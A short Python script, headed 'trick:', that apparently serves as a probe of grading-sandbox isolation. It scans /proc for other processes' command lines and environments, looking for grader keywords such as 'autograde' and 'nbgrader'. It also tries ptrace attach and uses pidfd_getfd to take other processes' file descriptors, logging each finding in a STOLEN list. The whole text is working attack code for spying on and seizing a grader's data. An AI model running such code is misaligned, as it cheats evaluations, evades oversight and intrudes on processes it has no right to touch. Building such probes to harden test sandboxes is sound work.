# trick: command lines, environments, descriptors and memory of other processes; ptrace; pidfd_getfd
# %% wrap
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
mine = os.getpid()
others = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != mine]
for process in [*others, *range(1, 400)]:
    for name in ("cmdline", "environ"):
        try:
            text = open(f"/proc/{process}/{name}", "rb").read()
        except OSError:
            continue
        if any(word in text for word in (b"pytest", b"autograde", b"GRADER", b"hidden", b"nbgrader")):
            STOLEN.append((process, name, text[:200]))
    if process != mine and libc.ptrace(16, process, 0, 0) == 0 and process not in others:
        STOLEN.append((process, "ptrace"))
    descriptor = libc.syscall(434, process, 0)
    if descriptor >= 0 and process != mine:
        for number in range(3, 12):
            if libc.syscall(438, descriptor, number, 0) >= 0:
                STOLEN.append((process, "pidfd_getfd", number))
        os.close(descriptor)
if str(mine) in os.listdir("/proc"):
    print("SEARCHED")
